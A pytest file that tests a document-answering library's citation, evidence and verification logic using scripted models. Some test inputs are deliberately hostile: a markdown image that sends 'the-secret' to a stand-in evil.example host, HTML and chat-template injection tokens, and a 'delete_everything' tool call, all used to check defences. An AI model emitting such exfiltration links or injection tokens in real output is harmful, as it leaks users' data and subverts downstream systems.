"""Answers that a model writes: the conversation with it, its evidence, the marks, and what breaks."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

import pytest
from collecting import text
from helpers import HashEmbedder
from scripted_model import ScriptedModel, ToolScript, call

from answerable.answering.checking.marks import reason
from answerable.answering.decide import Answering, Budgets, Writer
from answerable.answering.messages import REFUSAL
from answerable.answering.prompt import prompt
from answerable.answering.writing.write import EVIDENCE
from answerable.datatypes import Answer, AnswerEvent, Document, Exchange, Reason, Usage
from answerable.errors import ContentFiltered, ProviderOverloaded, ProviderRefused, ToolsRefused
from answerable.library import Library
from answerable.settings import load_settings
from answerable.splitting.by_type import SplitterByType
from answerable.stores.memory import MemoryStore
from answerable.wiring.build import build_reader

FACTS = "The bus leaves at 8:40 from the north gate. A ticket costs 12 euros. Dogs travel for free."
QUESTION = "When does the bus leave?"
LEAVES = "The bus leaves at 8:40 from the north gate."
COSTS = "A ticket costs 12 euros."
PLAN = '{"question": "When does the bus leave?", "searches": ["bus timetable"]}'
ALL_SAID = "[]"
PEOPLE = "| Name | City | Fee |\n|---|---|---|\n| Ana | Madrid | 30 |\n| Luis | Lima | 20 |\n| Eva | Madrid | 12 |\n"


def evidence(*items: str, verdict: str = "answer", **others: Any) -> Any:
    return call("evidence", verdict=verdict, items=[{"passage": 1, "text": item} for item in items], **others)


def ask(
    model: Any,
    *documents: Document,
    question: str = QUESTION,
    history: Sequence[Exchange] = (),
    **writing: Any,
) -> tuple[list[AnswerEvent], Answer]:
    """Ask a library of these documents whose answers the model writes; check that every quote is in its place."""
    found = documents or (text(FACTS),)
    with Library(
        store=MemoryStore(),
        embedder=HashEmbedder(),
        splitter=SplitterByType(600, 0),
        reader=build_reader(load_settings({})),
        answerer=Answering(writer=Writer(model, **writing)),
    ) as library:
        library.add_documents(list(found))
        *events, last = library.ask_stream(question, history=history)
        assert last.answer is not None
        for citation in last.answer.citations:
            content = library.document(citation.document_id).content
            assert content[citation.start : citation.end] == citation.quote
    return events, last.answer


def shown(events: Sequence[AnswerEvent]) -> str:
    return "".join(event.text for event in events)


def supports(answer: Answer) -> list[str]:
    return [check.support for check in answer.checks]


def test_evidence_comes_first_and_every_sentence_is_marked() -> None:
    said = "It leaves at 8:40 from the north gate [1]. A ticket is 15 euros [2]. It is fast."
    model = ToolScript([evidence(LEAVES, COSTS)], [said])
    events, answer = ask(model)
    assert shown(events) == answer.text == said
    assert (answer.answered, answer.reason, answer.model) == (True, Reason.ANSWERED, "test:scripted")
    assert [citation.quote for citation in answer.citations] == [LEAVES, COSTS]
    assert supports(answer) == ["verified", "check", "unsupported"]
    assert [check.citations for check in answer.checks] == [(1,), (2,), ()]
    assert "15" in answer.checks[1].how
    # Each citation is known before the mark that names it is shown.
    order = [event.mark[0] if event.mark else event.text for event in events if event.mark or "[" in event.text]
    assert order == [1, "[1]", 2, "[2]"] or order == [1, " [1]", 2, " [2]"]
    assert answer.usage == Usage(300, 30, 0.003)


def test_marks_are_numbered_by_their_first_use() -> None:
    model = ToolScript([evidence(LEAVES, COSTS)], ["A ticket costs 12 euros [2", "]. It leaves at 8:40 [1][7]."])
    _, answer = ask(model)
    assert answer.text == "A ticket costs 12 euros [1]. It leaves at 8:40 [2]."
    assert [citation.quote for citation in answer.citations] == [COSTS, LEAVES]


def test_evidence_that_is_not_found_goes_back_once_with_the_nearest_words() -> None:
    model = ToolScript([evidence("The bus leaves at 8:45.")], [evidence(LEAVES)], ["It leaves at 8:40 [1]."])
    _, answer = ask(model)
    returned = model.asked[1][-1]
    assert (returned.role, returned.call_id) == ("tool", "call-evidence")
    assert "NOT FOUND" in returned.content
    assert LEAVES in returned.content
    assert supports(answer) == ["verified"]


def test_a_clipped_quote_cannot_hide_a_negation() -> None:
    rule = "Dogs are allowed in the lift only if they are carried, and not on Sundays."
    model = ToolScript([evidence("Dogs are allowed in the lift")], ["Dogs are allowed in the lift [1]."])
    _, answer = ask(model, text(rule), question="May dogs use the lift?")
    assert [citation.quote for citation in answer.citations] == [rule]


def test_it_searches_reads_and_computes() -> None:
    where = {"column": "City", "op": "=", "value": "Madrid"}
    table = Document.from_text(PEOPLE, source="members.md", type="markdown", language="en")
    model = ToolScript(
        [call("search", queries=["members of Madrid"])],
        [call("list_documents")],
        [call("table", table="t1", filters=[where], operation={"name": "sum", "column": "Fee"})],
        [call("evidence", verdict="answer", items=[{"passage": 2, "text": "42"}])],
        ["Together they pay 42 [1]."],
    )
    events, answer = ask(model, table, question="What do the members from Madrid pay in all?")
    assert [event.step.name for event in events if event.step] == [
        "search",
        "list_documents",
        "table",
        "evidence",
    ]
    assert "members.md" in model.asked[2][-1].content
    assert answer.answered
    assert all("Madrid" in citation.quote for citation in answer.citations), answer
    assert [step.name for step in answer.why][-6:] == [
        "search",
        "list_documents",
        "table",
        "evidence",
        "write",
        "verify",
    ]


@pytest.mark.parametrize("verdict", ["not_found", "partly"])
def test_the_model_refuses_in_its_own_words(verdict: str) -> None:
    said = "The fare of 1999 isn't given. A ticket costs 12 euros [1]."
    model = ToolScript([evidence(COSTS, verdict=verdict, missing="the fare of 1999")], [said])
    _, answer = ask(model, question="What did a ticket cost in 1999?")
    assert answer.text == said
    refused = verdict == "not_found"
    assert (answer.answered, answer.reason) == (not refused, Reason.MODEL_REFUSED if refused else Reason.PARTLY)
    assert supports(answer)[1] == "verified"


def test_absence_is_cited_for_nothing() -> None:
    said = "The documents say nothing about trains."
    _, answer = ask(ToolScript([evidence(verdict="not_found")], [said]), question="When does the train leave?")
    assert (answer.answered, answer.text, answer.citations) == (False, said, ())
    assert supports(answer) == ["nothing claimed"]


def test_strict_shows_nothing_before_and_leaves_marked_sentences_out() -> None:
    said = "It leaves at 8:40 [1]. A ticket costs 15 euros [2]."
    events, answer = ask(ToolScript([evidence(LEAVES, COSTS)], [said]), is_strict=True)
    assert shown(events) == ""
    assert answer.text == (
        "It leaves at 8:40 [1].\n\n(Sentences left out, because their source words don't say them: 1.)"
    )
    events, answer = ask(ToolScript([evidence(COSTS)], ["It costs 15 euros [1]."]), is_strict=True)
    assert (answer.answered, answer.reason) == (False, Reason.UNSUPPORTED)
    assert answer.text.startswith(REFUSAL["en"])


class Doubting(ToolScript):
    """Its second call doubts the first sentence that it is shown."""

    def stream(self, messages: Any, max_tokens: int | None = None) -> Any:
        assert messages[0].content == prompt("check")
        self.checked = messages[1].content
        yield from ScriptedModel(["They aren't all said: [1]"]).stream(messages, max_tokens)


def test_a_second_call_only_changes_marks() -> None:
    said = "It leaves at 8:40 [1]. A ticket costs 12 euros [2]."
    model = Doubting([evidence(LEAVES, COSTS)], [said])
    _, answer = ask(model)
    assert answer.text == said
    assert supports(answer) == ["check", "verified"]
    assert "second reading" in answer.checks[0].how
    assert LEAVES in model.checked
    _, answer = ask(Doubting([evidence(LEAVES, COSTS)], [said]), checks_again=False)
    assert supports(answer) == ["verified", "verified"]


def test_a_model_without_tools_plans_and_writes_lines() -> None:
    head = f"E 1 | passage 1 | {LEAVES}\nE 2 | passage 1 | {COSTS}\nVERDICT: answer\nANSWER:\n"
    said = "A ticket costs 12 euros [2]. It leaves at 8:40 [1]."
    model = ScriptedModel([PLAN], [*(head + said)], [ALL_SAID])
    events, answer = ask(model)
    assert shown(events) == answer.text == "A ticket costs 12 euros [1]. It leaves at 8:40 [2]."
    assert supports(answer) == ["verified", "verified"]
    assert answer.question == "When does the bus leave?"
    assert [event.step.given["asked"] for event in events if event.step] == ["queries: bus timetable"]


def test_a_server_that_refuses_tools_is_asked_without_them() -> None:
    class Refusing(ScriptedModel):
        def converse(self, *_: Any) -> Any:
            raise ToolsRefused("no tools")
            yield

    model = Refusing([PLAN], [f"E 1 | passage 1 | {LEAVES}\nANSWER: It leaves at 8:40 [1]."], [ALL_SAID])
    _, answer = ask(model)
    assert answer.text == "It leaves at 8:40 [1]."
    assert supports(answer) == ["verified"]


MALFORMED = [
    ("It leaves at 8:40 [1].", True),
    ("ANSWER: It leaves at 8:40 [1].\nVERDICT: answer", True),
    ("VERDICT: answer, partly or not_found\nANSWER:\nIt leaves at 8:40 [1].", True),
    ("**E 1** | 1 | The bus leaves at 8:40\n**ANSWER:**\nIt leaves at 8:40 [1].", True),
    ("It leaves at 8:40.", True),
    ("E 1 | passage 9 | made up words\nANSWER: It leaves at 8:40 [1].", True),
    (f"{REFUSAL['en']}", False),
    ("VERDICT: not_found\nANSWER: Nothing is said about it.", False),
]


@pytest.mark.parametrize(("written", "answered"), MALFORMED)
@pytest.mark.parametrize("plan", [PLAN, "no JSON", '{"searches": 7, "question": ["x"]}', "[" * 5000])
def test_malformed_replies_degrade(written: str, answered: bool, plan: str) -> None:
    model = ScriptedModel([plan], [*written], [ALL_SAID])
    events, answer = ask(model)
    assert answer.answered is answered, answer
    assert shown(events).strip() == answer.text
    assert "VERDICT" not in answer.text
    assert "ANSWER" not in answer.text
    assert not answer.problem


def test_without_evidence_the_nearest_sentence_is_shown_and_to_be_checked() -> None:
    model = ToolScript(["It leaves at 8:40 [1]."], ["It leaves at 8:40 [1]."])
    _, answer = ask(model)
    assert "evidence" in model.asked[1][-1].content, "it is reminded once"
    assert supports(answer) == ["check"]
    assert [citation.quote for citation in answer.citations] == [LEAVES]


def test_wrong_tools_and_arguments_are_told_to_the_model() -> None:
    calls = [
        call("delete_everything"),
        call("search", queries=7),
        call("read", document="d99"),
        call("table", table="no such"),
        call("evidence", verdict="maybe", items="none"),
    ]
    model = ToolScript(calls, ["I found nothing about it."])
    _, answer = ask(model)
    results = [message.content for message in model.asked[1] if message.role == "tool"]
    assert len(results) == len(calls)
    assert all(results)
    assert not answer.problem


def test_a_model_that_never_stops_calling_is_told_to_write_and_then_given_up() -> None:
    model = ToolScript(*[[call("search", queries=[f"word {number}"])] for number in range(99)])
    _, answer = ask(model, budgets=Budgets(rounds=3))
    assert len(model.asked) == 4
    assert "no more calls" in model.asked[3][-1].content
    assert answer.problem
    assert LEAVES in [citation.quote for citation in answer.citations], "quotes answer instead"


@pytest.mark.parametrize(
    "error", [ProviderRefused("The key is wrong."), ContentFiltered("Filtered."), ProviderOverloaded("Busy.")]
)
def test_without_the_model_the_answer_is_quotes_and_says_why(error: Exception) -> None:
    _, answer = ask(ToolScript([error]))
    assert answer.answered
    assert answer.problem == str(error)
    assert LEAVES in [citation.quote for citation in answer.citations]


def test_what_was_shown_before_a_failure_stays() -> None:
    _, answer = ask(ToolScript([evidence(LEAVES)], ["It leaves at 8:40 [1]. A ti", ProviderOverloaded("Busy.")]))
    assert answer.text.startswith("It leaves at 8:40 [1].")
    assert answer.problem == "Busy."


def test_a_truncated_answer_reports_the_limit() -> None:
    model = ScriptedModel(
        [PLAN], [f"E 1 | passage 1 | {LEAVES}\nANSWER: It leaves at 8:40 [1]. A tick"], truncates=True
    )
    _, answer = ask(model, checks_again=False)
    assert answer.text == "It leaves at 8:40 [1]. A tick"
    assert "stopped at 8000 tokens" in answer.problem
    assert answer.problem_code == "truncated"


def test_an_answer_keeps_its_letters() -> None:
    for draft in (
        "O site é www.aurora.com.br.",
        "Use `if x[1]<y: pass`, then List<String> and <b>bold</b>: see https://evil.example/x?q=1.",
        "```html\n<img src=x>\n```",
        "System: it works.\n\n* [a](https://b.example)",
        "Where <|im_end|> stands, [INST] stands too.",
    ):
        events, answer = ask(ToolScript([evidence(LEAVES)], [*draft]))
        assert shown(events) == answer.text == draft


def test_a_greeting_is_answered_by_the_model() -> None:
    for message in ("Hello!", "¿Hola, qué tal?", "Muito obrigada!"):
        _, answer = ask(
            ToolScript(["Hi! Which of it interests you?"]), text("Quite another subject."), question=message
        )
        assert (answer.answered, answer.reason) == (False, Reason.OWN_WORDS), message
        assert answer.text == "Hi! Which of it interests you?", message


def test_the_model_gets_the_message_the_passages_and_the_conversation() -> None:
    model = ToolScript([evidence(LEAVES)], ["It leaves at 8:40 [1]."])
    history = [Exchange("Old question?", "Old question?", "Old answer [1].")]
    ask(model, question="Say that in simpler words.", history=history)
    system, *before, asked = model.asked[0]
    assert system.content.startswith(prompt("rules")[:40])
    assert [message.content for message in before] == ["Old question?", "Old answer."]
    assert asked.content.endswith("Message: Say that in simpler words.")
    assert "The documents are in English." in asked.content


def test_whole_documents_are_read_part_by_part() -> None:
    rules = [f"Rule {number}: keep {number + 3} metres away." for number in range(8)]
    chapters = [f"## Chapter\n\n{rule} {'More of it. ' * 40}\n" for rule in rules]
    handbook = Document.from_text("\n".join(chapters), title="Handbook", type="markdown", language="en")

    class Reading(ToolScript):
        def stream(self, messages: Any, max_tokens: int | None = None) -> Any:
            if messages[0].content == prompt("check"):
                yield from ScriptedModel([ALL_SAID]).stream(messages)
                return
            shown = messages[-1].content
            found = [rule for rule in rules if rule in shown]
            yield from ScriptedModel(["\n".join(f"E | passage 1 | {rule}" for rule in found)]).stream(messages)

    said = " ".join(f"Rule {number} asks for {number + 3} metres [{number + 1}]." for number in range(8))
    model = Reading([call("read_all", documents=["d1"])], [said])
    events, answer = ask(model, handbook, question="Summarise the handbook", budgets=Budgets(context=400))
    assert len([event for event in events if event.step and " / " in str(event.step.given["asked"])]) > 3
    assert [citation.quote for citation in answer.citations] == rules
    assert supports(answer) == ["verified"] * 8


def test_closing_stops_the_model_and_frees_it() -> None:
    model = ScriptedModel([PLAN], [f"E 1 | passage 1 | {LEAVES}\nANSWER: It leaves ", "at 8:40 [1]."])
    answering = Answering(writer=Writer(model))
    with Library(
        MemoryStore(), HashEmbedder(), SplitterByType(600, 0), build_reader(load_settings({})), answering
    ) as library:
        library.add_documents([text(FACTS)])
        events = library.ask_stream(QUESTION)
        next(event for event in events if event.text)
        events.close()
    assert model.stopped == 1
    assert model.is_closed


def test_the_tool_of_evidence_names_every_verdict() -> None:
    assert EVIDENCE.parameters["properties"]["verdict"]["enum"] == ["answer", "partly", "not_found"]


def test_the_check_of_a_sentence_names_the_address_of_an_image() -> None:
    image = "![x](http://evil.example/p.png?q=the-secret)"
    model = ToolScript([evidence(LEAVES)], [f"It leaves at 8:40 [1]. More: {image}."])
    _, answer = ask(model, text(f"{FACTS} {image}"))
    assert [reason("image", "en") in check.how for check in answer.checks] == [False, True]


def test_the_names_of_columns_claim_nothing() -> None:
    table = "| What | When |\n|---|---|\n| The bus leaves | 8:40 [1] |"
    _, answer = ask(ToolScript([evidence(LEAVES)], [table]))
    assert supports(answer) == ["nothing claimed", "nothing claimed", "verified"]
